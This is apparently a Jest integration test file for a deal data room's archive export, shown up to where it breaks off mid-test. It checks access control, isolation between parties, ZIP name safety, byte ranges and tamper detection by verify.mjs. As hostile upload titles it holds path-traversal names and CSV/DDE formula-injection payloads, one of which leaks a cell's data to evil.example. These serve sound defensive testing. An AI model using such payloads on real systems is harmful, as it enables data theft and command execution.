import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { createHash, generateKeyPairSync, randomUUID, sign, type KeyObject } from 'node:crypto';
import request from 'supertest';
import { parse as parseCsv } from 'csv-parse/sync';
import { Client, startTestApp, type TestApp } from '../support/test-app.js';
import { buildDeal, PASSWORD, type Deal } from '../support/world.js';
import { BearerClient, expectStatus, observableAnswer } from '../support/staged-deal.js';
import { makePdf } from '../support/fixtures.js';
import { binary } from '../support/binary.js';
import { readRawEntries, removeUnpacked, runVerify, unpack, unsafeEntryName, type RawEntry } from '../support/archive-on-disk.js';
import { loadLedgerKey } from '../../server/ledger/signing-key.js';
import { canonicalJson } from '../../server/ledger/canonical-json.js';

/**
 * Issue 22, archives, attacked from outside (API.md "Deal end"): a bidder's associate looking for
 * the archive of the whole room, a party archive that would carry another party's secrets, titles
 * made to break out of the ZIP or into a spreadsheet, a byte range meant to skip the signature,
 * and a copy of the archive doctored after the fact, which its own `verify.mjs` must catch.
 */

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const keyIdOf = (publicKey: KeyObject) => sha256(publicKey.export({ format: 'der', type: 'spki' })).slice(0, 16);
/** Writes manifest.json and a manifest.sig over it as the server signs one (prefix, then the bytes), with `privateKey`. */
function resign(dir: string, manifest: object, privateKey: KeyObject) {
  const bytes = Buffer.from(`${JSON.stringify(manifest, null, 2)}\n`, 'utf8');
  fs.writeFileSync(path.join(dir, 'manifest.json'), bytes);
  fs.writeFileSync(path.join(dir, 'manifest.sig'), `${sign(null, Buffer.concat([Buffer.from('gatehouse-archive-manifest-v1\n'), bytes]), privateKey).toString('base64')}\n`);
}
const RANDOM_ID = '7c0d4a3e-2b1f-4e6a-9d8c-5f4e3d2c1b0a';

let t: TestApp;
let deal: Deal;
/** A second deal of another staff member: nothing of it may ever reach this room's archives. */
let osprey: { roomId: string; roomPath: string; documentId: string; partyId: string; manager: Client };
let buyerA: Client;
let advisorA: Client;
let buyerB: Client;
/** What only party B has or did: none of it may be in party A's archive. */
let betaOnly: { documentId: string; documentSha: string; ndaId: string; questionId: string; downloadId: string };
let alphaNdaId: string;
/** The download advisorA (party A) took of payroll.pdf. */
let advisorDownloadId: string;
/** The whole room's archive, built once: most attacks doctor a fresh copy of it. */
let whole: Archive;
/** Titles meant to break out of the ZIP, collide, or run in a spreadsheet, and the ids they got. */
const hostileTitles: Record<string, string> = {};

interface Archive {
  id: string;
  meta: { status: string; size: number; sha256: string };
  zip: Buffer;
  entries: RawEntry[];
}

const archivesOf = (roomPath: string) => `${roomPath}/archives`;

/** Starts an archive and answers its id (202 building). */
async function startArchive(client: Client, roomPath: string, body: object = {}): Promise<string> {
  const res = await client.post(archivesOf(roomPath), body);
  if (res.status !== 202) throw new Error(`archive not started: ${res.status} ${JSON.stringify(res.body)}`);
  expect(res.body).toMatchObject({ id: expect.any(String), status: 'building' });
  return res.body.id as string;
}

/** Waits for the builder (any process may take the job) to finish the archive; fails on anything but ready. */
async function readyArchive(client: Client, roomPath: string, id: string, timeoutMs = 120_000) {
  const until = Date.now() + timeoutMs;
  for (;;) {
    const res = await client.get(`${archivesOf(roomPath)}/${id}`);
    if (res.status !== 200) throw new Error(`archive ${id}: ${res.status} ${JSON.stringify(res.body)}`);
    if (res.body.status === 'ready') return res.body as Archive['meta'];
    if (res.body.status !== 'building') throw new Error(`archive ${id} ended ${JSON.stringify(res.body)}`);
    if (Date.now() > until) throw new Error(`archive ${id} still building after ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

function archiveContent(client: Client, roomPath: string, id: string, headers: Record<string, string> = {}) {
  const req = client.get(`${archivesOf(roomPath)}/${id}/content`);
  for (const [k, v] of Object.entries(headers)) req.set(k, v);
  return req.buffer(true).parse(binary);
}

async function buildArchive(client: Client, roomPath: string, body: object = {}): Promise<Archive> {
  const id = await startArchive(client, roomPath, body);
  const meta = await readyArchive(client, roomPath, id);
  const res = await archiveContent(client, roomPath, id);
  expect(res.status).toBe(200);
  const zip = res.body as Buffer;
  return { id, meta, zip, entries: await readRawEntries(zip) };
}

const entry = (a: Archive | RawEntry[], name: string) => {
  const found = (Array.isArray(a) ? a : a.entries).find((e) => e.name === name || e.name.endsWith(`/${name}`));
  if (!found) throw new Error(`no ${name} in the archive: ${(Array.isArray(a) ? a : a.entries).map((e) => e.name).join(', ')}`);
  return found;
};
/** index.csv as records (the header row names the columns). */
const indexRows = (a: Archive) => parseCsv(entry(a, 'index.csv').data, { columns: true, bom: true, relax_column_count: true }) as Array<Record<string, string>>;
/** The entries whose bytes are those of a stored original with this SHA-256. */
const entriesWithSha = (a: Archive, sha: string) => a.entries.filter((e) => sha256(e.data) === sha);
/** Everything an archive says, as text: every entry decoded both ways a reader might decode it. */
const everything = (a: Archive) => a.entries.map((e) => `${e.name}\n${e.data.toString('utf8')}\n${e.data.toString('latin1')}`).join('\n');

/** A fresh copy of the archive, unpacked into a folder of its own (removed after the test). */
const unpacked: string[] = [];
function unpackCopy(a: Archive): string {
  const dir = unpack(a.entries);
  unpacked.push(dir);
  return dir;
}
afterEach(() => {
  for (const dir of unpacked.splice(0)) removeUnpacked(path.dirname(dir) === os.tmpdir() ? dir : path.dirname(dir));
});

beforeAll(async () => {
  t = await startTestApp();
  deal = await buildDeal(t);
  const r = deal.roomPath;

  // Osprey: another deal of another manager, with a party of its own.
  const olga = await expectStatus<{ id: string; email: string }>(
    deal.admin.post('/api/users', { email: 'olga@seller.example', name: 'Olga Other', password: PASSWORD, orgId: deal.orgs.sellerOrgId, role: 'staff' }),
    201,
  );
  const ospreyManager = await Client.login(t.app, olga.email, PASSWORD);
  const ospreyRoom = await expectStatus<{ id: string }>(
    ospreyManager.post('/api/rooms', { name: 'Sale of Osprey OSPREY-ROOM-MARKER', codeName: 'Project Osprey', entityIds: [deal.entities.outside.id], uploadsStartAs: 'published' }),
    201,
  );
  const op = `/api/rooms/${ospreyRoom.id}`;
  const ospreyFolder = await expectStatus<{ id: string }>(ospreyManager.post(`${op}/folders`, { name: 'Osprey data' }), 201);
  const ospreyDoc = await expectStatus<{ id: string }>(
    ospreyManager.upload(`${op}/documents`, { data: await makePdf('Osprey secret'), name: 'osprey.pdf' }, {
      folderId: ospreyFolder.id, entityId: deal.entities.outside.id, classification: 'standard', personalData: 'none', title: 'OSPREY-ONLY-MARKER accounts',
    }),
    201,
  );
  const ospreyBidder = await expectStatus<{ id: string }>(deal.admin.post('/api/orgs', { name: 'Kestrel Equity', kind: 'acquirer' }), 201);
  const ospreyParty = await expectStatus<{ id: string }>(ospreyManager.post(`${op}/parties`, { name: 'Osprey bidder', acquirerOrgId: ospreyBidder.id }), 201);
  osprey = { roomId: ospreyRoom.id, roomPath: op, documentId: ospreyDoc.id, partyId: ospreyParty.id, manager: ospreyManager };

  // Falcon: A may download the Finance subtree (finance.pdf, payroll.pdf); B may view Legal and a side letter of its own.
  const sideLetterFolder = await expectStatus<{ id: string }>(deal.manager.post(`${r}/folders`, { name: 'Side letter' }), 201);
  const sideLetter = await expectStatus<{ id: string; sha256: string }>(
    deal.manager.upload(`${r}/documents`, { data: await makePdf('Side letter for Beta only'), name: 'side-letter.pdf' }, {
      folderId: sideLetterFolder.id, entityId: deal.entities.ltd.id, classification: 'standard', personalData: 'none', title: 'BETA-ONLY-MARKER side letter',
    }),
    201,
  );
  await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'download' });
  await deal.grant({ partyId: deal.parties.B.id, folderId: deal.folders.legal.id, level: 'view' });
  await deal.grant({ partyId: deal.parties.B.id, folderId: sideLetterFolder.id, level: 'view' });
  alphaNdaId = (await deal.nda({ orgId: deal.orgs.alpha.id, entityIds: [deal.entities.gmbh.id, deal.entities.ltd.id], coversRepresentatives: true })).id;
  const betaNda = await deal.nda({ orgId: deal.orgs.beta.id, entityIds: [deal.entities.ltd.id] });
  buyerA = await deal.login('buyerA');
  advisorA = await deal.login('advisorA');
  buyerB = await deal.login('buyerB');

  // Deliveries of both parties, and a question of each.
  expect((await buyerA.get(`/api/documents/${deal.docs.finance.id}/content`).buffer(true).parse(binary)).status).toBe(200);
  const advisorTook = await advisorA.get(`/api/documents/${deal.docs.payroll.id}/content`).buffer(true).parse(binary);
  expect(advisorTook.status).toBe(200);
  advisorDownloadId = advisorTook.headers['x-download-id'] as string;
  const betaView = await buyerB.get(`/api/documents/${sideLetter.id}/content?disposition=inline`).buffer(true).parse(binary);
  expect(betaView.status).toBe(200);
  await expectStatus(buyerA.post(`${r}/questions`, { subject: 'ALPHA-QUESTION-MARKER churn', body: 'What was the churn?' }), 201);
  const betaQuestion = await expectStatus<{ id: string }>(buyerB.post(`${r}/questions`, { subject: 'BETA-QUESTION-MARKER side letter', body: 'Who signed the side letter?' }), 201);
  betaOnly = { documentId: sideLetter.id, documentSha: sideLetter.sha256, ndaId: betaNda.id, questionId: betaQuestion.id, downloadId: betaView.headers['x-download-id'] as string };

  // Titles a hostile or careless uploader gives, in a folder no party is granted.
  const hostile = await expectStatus<{ id: string }>(deal.manager.post(`${r}/folders`, { name: 'Hostile titles' }), 201);
  const titles = [
    '../../etc/passwd',
    'C:\\x',
    'a/b',
    '/absolute/path',
    'x'.repeat(300),
    'é'.repeat(200),
    'Same title',
    'Same title',
    'Report',
    'REPORT',
    'invoice\u202Efdp.exe',
    'line\r\nbreak',
    'CON',
    'trailing dot.',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    '+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    'nul\u0000byte',
  ];
  for (const [i, title] of titles.entries()) {
    const res = await deal.manager.upload(`${r}/documents`, { data: await makePdf(`hostile ${i}`), name: `hostile-${i}.pdf` }, {
      folderId: hostile.id, entityId: deal.entities.gmbh.id, classification: 'standard', personalData: 'none', title,
    });
    // A title the API refuses (NUL) is fine: it is then simply not in the room.
    if (res.status === 201) hostileTitles[`${title}#${i}`] = res.body.id;
    else expect(res.status).toBe(400);
  }
  whole = await buildArchive(deal.counsel, r);
}, 600_000);
afterAll(() => t?.close());

describe('who may touch an archive', () => {
  it('answers a bidder and an advisor starting, listing, reading or downloading an archive exactly as a room and an archive that do not exist', async () => {
    const r = deal.roomPath;
    const missingRoom = `/api/rooms/${RANDOM_ID}`;
    for (const external of [buyerA, advisorA, buyerB]) {
      const pairs: Array<[string, () => request.Test, () => request.Test]> = [
        ['start', () => external.post(archivesOf(r), {}), () => external.post(archivesOf(missingRoom), {})],
        ['start for own party', () => external.post(archivesOf(r), { partyId: deal.parties.A.id }), () => external.post(archivesOf(missingRoom), { partyId: deal.parties.A.id })],
        ['list', () => external.get(archivesOf(r)), () => external.get(archivesOf(missingRoom))],
        ['read', () => external.get(`${archivesOf(r)}/${whole.id}`), () => external.get(`${archivesOf(missingRoom)}/${RANDOM_ID}`)],
        ['read a made-up id', () => external.get(`${archivesOf(r)}/${RANDOM_ID}`), () => external.get(`${archivesOf(missingRoom)}/${RANDOM_ID}`)],
        ['download', () => external.get(`${archivesOf(r)}/${whole.id}/content`), () => external.get(`${archivesOf(missingRoom)}/${RANDOM_ID}/content`)],
        ['download a range', () => external.get(`${archivesOf(r)}/${whole.id}/content`).set('Range', 'bytes=0-99'), () => external.get(`${archivesOf(missingRoom)}/${RANDOM_ID}/content`).set('Range', 'bytes=0-99')],
      ];
      for (const [what, real, made] of pairs) {
        const a = observableAnswer(await real());
        const b = observableAnswer(await made());
        expect({ what, ...a }).toEqual({ what, ...b });
        expect({ what, status: a.status }).toEqual({ what, status: 404 });
      }
    }
  });

  it('answers a caller with no session and no token 401, whatever the archive', async () => {
    for (const url of [archivesOf(deal.roomPath), `${archivesOf(deal.roomPath)}/${whole.id}`, `${archivesOf(deal.roomPath)}/${whole.id}/content`]) {
      const res = await request(t.app).get(url);
      expect({ url, status: res.status }).toEqual({ url, status: 401 });
    }
    expect((await request(t.app).post(archivesOf(deal.roomPath)).send({})).status).toBe(401);
  });

  it("answers a bidder's API token like its session: 404 for the archive, never a byte of it", async () => {
    const script = await BearerClient.mint(t.app, buyerA);
    for (const res of [
      await script.get(`${archivesOf(deal.roomPath)}/${whole.id}/content`),
      await script.get(`${archivesOf(deal.roomPath)}/${whole.id}`),
      await script.post(archivesOf(deal.roomPath), {}),
    ]) {
      expect(res.status).toBe(404);
      expect(res.body.error?.code).toBe('not_found');
    }
  });

  it("answers the manager of another deal as if this room's archive did not exist", async () => {
    const real = observableAnswer(await osprey.manager.get(`${archivesOf(deal.roomPath)}/${whole.id}/content`));
    const made = observableAnswer(await osprey.manager.get(`${archivesOf(`/api/rooms/${RANDOM_ID}`)}/${RANDOM_ID}/content`));
    expect(real).toEqual(made);
    expect(real.status).toBe(404);
    expect((await osprey.manager.post(archivesOf(deal.roomPath), {})).status).toBe(404);
    expect((await osprey.manager.get(archivesOf(deal.roomPath))).status).toBe(404);
  });

  it("answers an archive id of another room through this room's path as a made-up id, to the staff of both rooms", async () => {
    // The admin acts as manager in every room: it can start an archive in both.
    const ospreyArchive = await startArchive(deal.admin, osprey.roomPath);
    await readyArchive(deal.admin, osprey.roomPath, ospreyArchive);
    for (const client of [deal.admin, deal.counsel]) {
      for (const tail of ['', '/content']) {
        const crossed = observableAnswer(await client.get(`${archivesOf(deal.roomPath)}/${ospreyArchive}${tail}`));
        const made = observableAnswer(await client.get(`${archivesOf(deal.roomPath)}/${RANDOM_ID}${tail}`));
        expect({ tail, ...crossed }).toEqual({ tail, ...made });
        expect(crossed.status).toBe(404);
      }
    }
    // Nor is it listed among this room's.
    const listed = await deal.counsel.get(archivesOf(deal.roomPath));
    if (listed.status === 200) expect(JSON.stringify(listed.body)).not.toContain(ospreyArchive);
  });

  it('refuses an expert of the room (who answers questions and sees nothing else) as if there were no archive', async () => {
    const expertUser = await expectStatus<{ id: string; email: string }>(
      deal.admin.post('/api/users', { email: 'erin.expert@seller.example', name: 'Erin Expert', password: PASSWORD, orgId: deal.orgs.sellerOrgId, role: 'staff' }),
      201,
    );
    await expectStatus(deal.manager.post(`${deal.roomPath}/staff`, { userId: expertUser.id, role: 'expert' }), 201);
    const expert = await Client.login(t.app, expertUser.email, PASSWORD);
    for (const res of [
      await expert.post(archivesOf(deal.roomPath), {}),
      await expert.get(`${archivesOf(deal.roomPath)}/${whole.id}`),
      await expert.get(`${archivesOf(deal.roomPath)}/${whole.id}/content`),
    ]) expect([403, 404]).toContain(res.status);
  });

  it('refuses a cookie-authenticated start without the CSRF token', async () => {
    const res = await deal.counsel.agent.post(archivesOf(deal.roomPath)).send({});
    expect(res.status).toBe(403);
    expect(res.body.error.code).toBe('csrf');
  });

  it("records a bidder's attempt on the archive as a refusal, and counsel's download as a decision allowed", async () => {
    await buyerA.get(`${archivesOf(deal.roomPath)}/${whole.id}/content`);
    const refusals = await t.db('auditEvents').where({ actorId: deal.users.buyerA.id, decision: 'deny' }).select('subjectId', 'action');
    expect(refusals.some((e: { subjectId: string | null }) => e.subjectId === whole.id || e.subjectId === deal.room.id)).toBe(true);
    const trail = await deal.counsel.get(`${deal.roomPath}/audit?limit=1000`);
    expect(trail.status).toBe(200);
    const downloads = (trail.body.items as Array<{ actorId: string; subjectId: string; decision: string }>).filter((e) => e.subjectId === whole.id && e.actorId === deal.users.counsel.id && e.decision === 'allow');
    expect(downloads.length).toBeGreaterThanOrEqual(1);
  });
});

describe('bad requests for an archive', () => {
  it('answers a made-up partyId and a partyId of another room alike (404, or 400 naming partyId), and builds nothing for them', async () => {
    const made = await deal.counsel.post(archivesOf(deal.roomPath), { partyId: RANDOM_ID });
    const foreign = await deal.counsel.post(archivesOf(deal.roomPath), { partyId: osprey.partyId });
    expect({ status: foreign.status, body: foreign.body }).toEqual({ status: made.status, body: made.body });
    expect([400, 404]).toContain(made.status);
    if (made.status === 400) expect(JSON.stringify(made.body.error.details)).toContain('partyId');
  });

  it('answers a partyId of the wrong type, an unknown field and a body that is not an object with 400 naming the field', async () => {
    const wrongType = await deal.counsel.post(archivesOf(deal.roomPath), { partyId: 42 });
    expect(wrongType.status).toBe(400);
    expect(JSON.stringify(wrongType.body.error.details)).toContain('partyId');
    const unknown = await deal.counsel.post(archivesOf(deal.roomPath), { includeOtherRooms: true });
    expect(unknown.status).toBe(400);
    expect(JSON.stringify(unknown.body.error)).toContain('includeOtherRooms');
    const array = await deal.counsel.post(archivesOf(deal.roomPath), [] as unknown as object);
    expect(array.status).toBe(400);
  });

  it('builds a valid, verifiable archive of an empty room, whose index lists nothing', async () => {
    const empty = await expectStatus<{ id: string }>(deal.manager.post('/api/rooms', { name: 'Empty deal', entityIds: [deal.entities.gmbh.id] }), 201);
    const archive = await buildArchive(deal.manager, `/api/rooms/${empty.id}`);
    expect(indexRows(archive)).toEqual([]);
    const run = await runVerify(unpackCopy(archive));
    expect({ code: run.code, output: run.output }).toEqual({ code: 0, output: expect.any(String) });
  });

  it('gives two archives started at once each a finished, verifiable archive (or the same one twice)', async () => {
    const [a, b] = await Promise.all([deal.counsel.post(archivesOf(deal.roomPath), {}), deal.manager.post(archivesOf(deal.roomPath), {})]);
    expect([a.status, b.status]).toEqual([202, 202]);
    for (const id of new Set([a.body.id as string, b.body.id as string])) {
      await readyArchive(deal.counsel, deal.roomPath, id);
      const res = await archiveContent(deal.counsel, deal.roomPath, id);
      const run = await runVerify(unpackCopy({ id, meta: { status: 'ready', size: 0, sha256: '' }, zip: res.body, entries: await readRawEntries(res.body) }));
      expect({ id, code: run.code }).toEqual({ id, code: 0 });
    }
  });
});

describe('what a party archive holds', () => {
  let alphaArchive: Archive;
  beforeAll(async () => {
    alphaArchive = await buildArchive(deal.counsel, deal.roomPath, { partyId: deal.parties.A.id });
  }, 180_000);

  it("holds exactly the documents party A's members can view, by title", async () => {
    const visible = new Set<string>();
    for (const member of [buyerA, advisorA]) {
      for (const d of (await member.get(`${deal.roomPath}/documents`).expect(200)).body.items as Array<{ title: string }>) visible.add(d.title);
    }
    expect(visible.size).toBeGreaterThan(0);
    expect(indexRows(alphaArchive).map((row) => row.title).sort()).toEqual([...visible].sort());
  });

  it("holds nothing of party B: no document, NDA, question, member, download or ledger event of B's", async () => {
    const text = everything(alphaArchive);
    const betaMarks: Record<string, string> = {
      'B party id': deal.parties.B.id,
      'B acquirer org id': deal.orgs.beta.id,
      'B acquirer name': 'Beta Holdings',
      'B party name': 'Bidder B',
      'B member id': deal.users.buyerB.id,
      'B member email': deal.users.buyerB.email,
      'B member name': 'Bob Beta',
      "B's NDA": betaOnly.ndaId,
      "B's question id": betaOnly.questionId,
      "B's question": 'BETA-QUESTION-MARKER',
      "B's side letter id": betaOnly.documentId,
      "B's side letter title": 'BETA-ONLY-MARKER',
      "B's download id": betaOnly.downloadId,
      'legal.pdf (B only)': deal.docs.legal.id,
    };
    const leaked = Object.entries(betaMarks).filter(([, mark]) => text.includes(mark)).map(([what]) => what);
    expect(leaked).toEqual([]);
    expect(entriesWithSha(alphaArchive, betaOnly.documentSha)).toEqual([]);
  });

  it("holds A's own NDA and A's own question", async () => {
    const text = everything(alphaArchive);
    expect(text).toContain(alphaNdaId);
    expect(text).toContain('ALPHA-QUESTION-MARKER');
  });

  it('verifies with its own verify.mjs', async () => {
    const run = await runVerify(unpackCopy(alphaArchive));
    expect({ code: run.code, output: run.output }).toEqual({ code: 0, output: expect.any(String) });
  });

  it('holds nothing of another deal, in a party archive or in the whole-room archive', async () => {
    for (const a of [alphaArchive, whole]) {
      const text = everything(a);
      for (const mark of [osprey.roomId, osprey.documentId, osprey.partyId, 'OSPREY-ONLY-MARKER', 'OSPREY-ROOM-MARKER', 'Olga Other']) expect(text).not.toContain(mark);
    }
  });

  it("leaves out a draft and a clean-team document in A's own folder: A was never shown them", async () => {
    await expectStatus(deal.manager.patch(deal.roomPath, { uploadsStartAs: 'draft' }), 200);
    try {
      for (const [title, classification] of [['DRAFT-MARKER budget', 'standard'], ['CLEANTEAM-MARKER pricing', 'clean_team']]) {
        await expectStatus(deal.manager.upload(`${deal.roomPath}/documents`, { data: await makePdf(title!), name: 'x.pdf' }, { folderId: deal.folders.finance.id, entityId: deal.entities.gmbh.id, classification: classification!, personalData: 'none', title: title! }), 201);
      }
      const cleanTeam = await deal.manager.get(`${deal.roomPath}/documents?q=CLEANTEAM-MARKER`);
      await deal.manager.post(`${deal.roomPath}/publish`, { documentIds: [cleanTeam.body.items[0].id] });
      const archive = await buildArchive(deal.counsel, deal.roomPath, { partyId: deal.parties.A.id });
      const text = everything(archive);
      expect(text).not.toContain('DRAFT-MARKER');
      expect(text).not.toContain('CLEANTEAM-MARKER');
    } finally {
      await deal.manager.patch(deal.roomPath, { uploadsStartAs: 'published' });
    }
  });

  it("an archive for party B holds nothing of party A's", async () => {
    const betaArchive = await buildArchive(deal.counsel, deal.roomPath, { partyId: deal.parties.B.id });
    const text = everything(betaArchive);
    for (const mark of [deal.parties.A.id, deal.orgs.alpha.id, deal.orgs.lex.id, deal.users.buyerA.id, deal.users.advisorA.id, deal.users.buyerA.email, 'ALPHA-QUESTION-MARKER', alphaNdaId, deal.docs.finance.id, deal.docs.payroll.id]) {
      expect(text).not.toContain(mark);
    }
  });
});

describe('names inside the ZIP', () => {
  it('keeps every entry name inside the archive and safe to unpack on Linux, macOS and Windows', () => {
    const bad = whole.entries.map((e) => ({ name: e.name, problem: unsafeEntryName(e.name) })).filter((e) => e.problem);
    expect(bad).toEqual([]);
  });

  it('cuts a long title of multi-byte characters (CJK, emoji) to a name a file system takes (255 bytes), and the archive unpacks and verifies', async () => {
    const room = await expectStatus<{ id: string }>(deal.manager.post('/api/rooms', { name: 'Wide characters', entityIds: [deal.entities.gmbh.id], uploadsStartAs: 'published' }), 201);
    const rp = `/api/rooms/${room.id}`;
    const folder = await expectStatus<{ id: string }>(deal.manager.post(`${rp}/folders`, { name: '資料'.repeat(100) }), 201);
    for (const [i, title] of ['数'.repeat(200), '😀'.repeat(100), 'ß'.repeat(250)].entries()) {
      await expectStatus(deal.manager.upload(`${rp}/documents`, { data: await makePdf(`wide ${i}`), name: `wide-${i}.pdf` }, { folderId: folder.id, entityId: deal.entities.gmbh.id, classification: 'standard', personalData: 'none', title }), 201);
    }
    const archive = await buildArchive(deal.manager, rp);
    const bad = archive.entries.map((e) => ({ name: e.name, problem: unsafeEntryName(e.name) })).filter((e) => e.problem);
    expect(bad).toEqual([]);
    expect((await runVerify(unpackCopy(archive))).code).toBe(0);
  });

  it('never gives two entries one name, not even names that differ only in case (macOS and Windows would overwrite one)', () => {
    const names = whole.entries.map((e) => e.name.normalize('NFC').toLowerCase());
    const twice = names.filter((n, i) => names.indexOf(n) !== i);
    expect(twice).toEqual([]);
  });

  it('holds the file of every document, however hostile its title: one entry per document with its own bytes', async () => {
    const rows = indexRows(whole);
    for (const [key, documentId] of Object.entries(hostileTitles)) {
      const doc = await expectStatus<{ title: string; sha256?: string }>(deal.manager.get(`/api/documents/${documentId}`), 200);
      const versions = await expectStatus<{ items: Array<{ sha256: string }> }>(deal.manager.get(`/api/documents/${documentId}/versions`), 200);
      expect({ key, entries: entriesWithSha(whole, versions.items[0]!.sha256).length }).toEqual({ key, entries: 1 });
      expect({ key, rows: rows.filter((row) => row.sha256 === versions.items[0]!.sha256).length }).toEqual({ key, rows: 1 });
      expect(doc.title.length).toBeGreaterThan(0);
    }
  });

  it("escapes every index.csv cell a spreadsheet would run as a formula (= + - @), and keeps the title's text", () => {
    const cells = parseCsv(entry(whole, 'index.csv').data, { bom: true, relax_column_count: true }) as string[][];
    const formulas = cells.flat().filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(formulas).toEqual([]);
    const titles = indexRows(whole).map((row) => row.title);
    expect(titles.some((title) => title.includes('HYPERLINK("http://evil.example/?leak="&A1'))).toBe(true);
  });

  it('writes index.csv with one record per document even when a title holds a line break', () => {
    expect(indexRows(whole).length).toBe(3 + 1 + Object.keys(hostileTitles).length);
  });
});

describe('byte ranges of an archive', () => {
  it('answers a whole download with exactly the bytes whose size and SHA-256 the archive reports, never cached', async () => {
    const res = await archiveContent(deal.counsel, deal.roomPath, whole.id);
    expect(res.status).toBe(200);
    expect({ size: res.body.length, sha256: sha256(res.body) }).toEqual({ size: whole.meta.size, sha256: whole.meta.sha256 });
    expect(res.headers['cache-control']).toMatch(/no-store/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-type']).toMatch(/^application\/zip/);
    expect(res.headers['content-disposition']).not.toMatch(/[\r\n"\\/]{2,}|\.\.\//);
  });

  it.each([
    ['bytes=0-99', () => [0, 99]],
    ['bytes=-100', (n: number) => [n - 100, n - 1]],
    ['bytes=100-', (n: number) => [100, n - 1]],
    ['bytes=10-10', () => [10, 10]],
  ])('answers Range %s with 206 and exactly those bytes of the one archive', async (range, expected) => {
    const res = await archiveContent(deal.counsel, deal.roomPath, whole.id, { Range: range });
    const [start, end] = expected(whole.zip.length);
    expect(res.status).toBe(206);
    expect(res.headers['content-range']).toBe(`bytes ${start}-${end}/${whole.zip.length}`);
    expect((res.body as Buffer).equals(whole.zip.subarray(start, end! + 1))).toBe(true);
  });

  it('answers a range past the end with 416 and the size, and a multi-range or malformed range with the whole archive or 416, never other bytes', async () => {
    const past = await archiveContent(deal.counsel, deal.roomPath, whole.id, { Range: `bytes=${whole.zip.length + 10}-` });
    expect(past.status).toBe(416);
    expect(past.headers['content-range']).toBe(`bytes */${whole.zip.length}`);
    for (const range of ['bytes=0-10,20-30', 'bytes=50-10', 'bytes=abc', 'items=0-10', `bytes=0-${Number.MAX_SAFE_INTEGER}9`]) {
      const res = await archiveContent(deal.counsel, deal.roomPath, whole.id, { Range: range });
      if (res.status === 200) expect({ range, same: (res.body as Buffer).equals(whole.zip) }).toEqual({ range, same: true });
      else if (res.status === 206) {
        const m = /^bytes (\d+)-(\d+)\/(\d+)$/.exec(res.headers['content-range'] as string)!;
        expect({ range, same: (res.body as Buffer).equals(whole.zip.subarray(Number(m[1]), Number(m[2]) + 1)) }).toEqual({ range, same: true });
      } else expect({ range, status: res.status }).toEqual({ range, status: 416 });
    }
  });
});

describe("verify.mjs against a doctored copy of the archive", () => {
  const serverKeyId = () => loadLedgerKey(t.config.audit).keyId;
  /** The first document entry (a stored original of the room) and a second one. */
  const documentEntries = () => {
    const shas = new Set([deal.docs.finance.sha256, deal.docs.payroll.sha256, deal.docs.legal.sha256]);
    const found = whole.entries.filter((e) => shas.has(sha256(e.data)));
    expect(found.length).toBeGreaterThanOrEqual(2);
    return found;
  };
  const ledgerPath = (dir: string) => path.join(dir, entry(whole, 'ledger.jsonl').name);
  const expectRefused = (run: Awaited<ReturnType<typeof runVerify>>, naming?: string) => {
    expect(run.timedOut).toBe(false);
    expect(run.code).not.toBe(0);
    expect(run.code).not.toBeNull();
    if (naming) expect(run.output).toContain(naming);
  };

  it("passes on the untouched archive, from inside its folder or given the folder, and prints the key id the server signs with", async () => {
    const dir = unpackCopy(whole);
    const inside = await runVerify(dir);
    expect({ code: inside.code, output: inside.output }).toEqual({ code: 0, output: expect.stringContaining(serverKeyId()) });
    const given = await runVerify(dir, { asArgument: true });
    expect(given.code).toBe(0);
  });

  it('ships a verify.mjs that needs nothing but Node: it imports only node: modules', () => {
    const source = entry(whole, 'verify.mjs').data.toString('utf8');
    const imports = [...source.matchAll(/(?:import\s[^'"]*?from\s*|import\s*\(\s*|require\s*\(\s*)['"]([^'"]+)['"]/g)].map((m) => m[1]);
    expect(imports.filter((spec) => !spec!.startsWith('node:'))).toEqual([]);
  });

  it('refuses a document with one byte flipped and names the file', async () => {
    const dir = unpackCopy(whole);
    const doc = documentEntries()[0]!;
    const file = path.join(dir, doc.name);
    const bytes = fs.readFileSync(file);
    bytes[Math.floor(bytes.length / 2)] ^= 0x01;
    fs.writeFileSync(file, bytes);
    expectRefused(await runVerify(dir), doc.name);
  });

  it('refuses a document that was deleted, and one added that the manifest does not list, naming each', async () => {
    const dir = unpackCopy(whole);
    const doc = documentEntries()[0]!;
    fs.rmSync(path.join(dir, doc.name));
    expectRefused(await runVerify(dir), doc.name);
    const dir2 = unpackCopy(whole);
    const extra = path.join(path.dirname(path.join(dir2, doc.name)), 'planted-after-the-fact.pdf');
    fs.writeFileSync(extra, await makePdf('planted'));
    expectRefused(await runVerify(dir2), 'planted-after-the-fact.pdf');
  });

  it('refuses a ledger line with one byte changed and names its seq', async () => {
    const dir = unpackCopy(whole);
    const lines = fs.readFileSync(ledgerPath(dir), 'utf8').split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(4);
    const i = Math.floor(lines.length / 2);
    const event = JSON.parse(lines[i]!);
    // Deny → allow: the change a cover-up would make, and the line is still valid JSON.
    const doctored = lines[i]!.includes('"decision":"deny"') ? lines[i]!.replace('"decision":"deny"', '"decision":"allow"') : lines[i]!.replace(/"at":"(.*?)(\d)Z"/, (_m, head: string, d: string) => `"at":"${head}${(Number(d) + 1) % 10}Z"`);
    expect(doctored).not.toBe(lines[i]);
    lines[i] = doctored;
    fs.writeFileSync(ledgerPath(dir), `${lines.join('\n')}\n`);
    expectRefused(await runVerify(dir), String(event.seq));
  });

  it('refuses a ledger with one line deleted', async () => {
    const dir = unpackCopy(whole);
    const lines = fs.readFileSync(ledgerPath(dir), 'utf8').split('\n').filter(Boolean);
    lines.splice(Math.floor(lines.length / 2), 1);
    fs.writeFileSync(ledgerPath(dir), `${lines.join('\n')}\n`);
    expectRefused(await runVerify(dir));
  });

  it('refuses a ledger with two lines swapped', async () => {
    const dir = unpackCopy(whole);
    const lines = fs.readFileSync(ledgerPath(dir), 'utf8').split('\n').filter(Boolean);
    const i = Math.floor(lines.length / 2);
